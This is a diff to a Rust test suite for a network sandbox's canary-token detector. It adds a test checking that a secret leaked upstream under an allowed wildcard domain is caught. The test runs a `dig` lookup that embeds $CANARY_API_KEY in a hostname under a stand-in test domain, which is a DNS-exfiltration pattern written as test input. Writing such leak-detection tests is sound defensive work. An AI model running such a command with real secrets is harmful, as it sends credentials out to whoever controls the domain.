@@ -275,10 +275,31 @@ fn a_canary_asked_as_a_dns_name_is_refused_and_trips() {
     );
     assert_eq!(out.status.code(), Some(6), "{}", show(&out));
     assert!(
-        String::from_utf8_lossy(&out.stderr).contains("in no refused DNS question"),
+        String::from_utf8_lossy(&out.stderr).contains("in no DNS question"),
         "{}",
         show(&out)
     );
+}
+
+/// A policy allowing a wildcard lets a question under it go upstream: the canary finds the
+/// token in what left the namespace (pasta's capture) and trips.
+#[test]
+fn a_canary_sent_upstream_under_an_allowed_wildcard_trips() {
+    let w = World::new();
+    let text = policy_text().replace(
+        "allow:\n",
+        &format!("allow:\n  - domain: \"*.wild.test\"\n    ports: [{PORT}]\n"),
+    );
+    let policy = w.write_file("wild.yaml", &text);
+    let out = exec(
+        &w,
+        policy.to_str().expect("utf-8 path"),
+        &["--canary"],
+        "dig +time=1 +tries=1 \"$CANARY_API_KEY.wild.test\" >/dev/null; exit 0",
+    );
+    assert_eq!(out.status.code(), Some(99), "{}", show(&out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("(SENT)"), "{}", show(&out));
 }
 
 /// Started by `ip netns exec SANDBOX` (a mount namespace of its own, the sandbox's resolv.conf
